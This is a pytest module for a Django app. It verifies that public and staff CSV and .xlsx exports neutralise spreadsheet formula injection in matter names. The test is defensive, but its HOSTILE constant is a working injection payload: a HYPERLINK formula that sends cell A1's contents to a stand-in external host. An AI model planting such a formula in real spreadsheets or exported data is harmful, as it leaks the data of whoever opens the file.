"""Every download that carries a matter's name leaves formula text inert: a matter renamed to a
formula comes out with a leading apostrophe in each CSV and .xlsx (issue: formula injection in
the public take-up CSV; the staff usage export is checked in dashboards' reporting tests)."""

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook  # type: ignore[import-untyped]

from devolve.core.spreadsheets.cells import FORMULA_TRIGGERS
from devolve.matters.list_export import ExportFormat, export_annual_list
from devolve.matters.models import AnnualList, Matter
from devolve.portal.tests.list_fixtures import ListCycle, build_list_cycle

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"打开")'


@pytest.fixture
def cycle(db: None) -> ListCycle:
    built = build_list_cycle()
    Matter.objects.filter(code="511A0000000001").update(name_zh=HOSTILE, name_en=HOSTILE)
    return built


def _xlsx_cells(content: bytes) -> Iterator[Any]:
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_inert_xlsx(content: bytes) -> None:
    cells = list(_xlsx_cells(content))
    assert "'" + HOSTILE in [cell.value for cell in cells]
    for cell in cells:
        assert cell.data_type != "f"
        if isinstance(cell.value, str):
            assert cell.value[:1] not in FORMULA_TRIGGERS, cell.coordinate


def _assert_inert_csv(content: bytes) -> None:
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    assert "'" + HOSTILE in cells
    assert [cell for cell in cells if cell[:1] in FORMULA_TRIGGERS] == []


def _edition(year: int) -> AnnualList:
    return AnnualList.objects.get(year=year, batch__number=1, edition=1)


def _portal(name: str, year: int) -> str:
    return reverse(f"portal:{name}", kwargs={"year": year, "batch": 1, "edition": 1})


def test_the_public_take_up_downloads_are_inert(client: Client, cycle: ListCycle) -> None:
    _assert_inert_csv(client.get(_portal("annual_list_take_up_csv", 2024)).content)
    _assert_inert_xlsx(client.get(_portal("annual_list_take_up_xlsx", 2024)).content)


def test_the_list_exports_are_inert(cycle: ListCycle) -> None:
    edition = _edition(2024)
    for file_format, check in ((ExportFormat.CSV, _assert_inert_csv),
                               (ExportFormat.XLSX, _assert_inert_xlsx)):  # fmt: skip
        check(export_annual_list(annual_list=edition, file_format=file_format).content)


def test_the_diff_workbook_is_inert(client: Client, cycle: ListCycle) -> None:
    response = client.get(_portal("annual_list_diff_xlsx", 2024))

    assert response.status_code == 200
    assert response["X-Content-Type-Options"] == "nosniff"
    _assert_inert_xlsx(response.content)
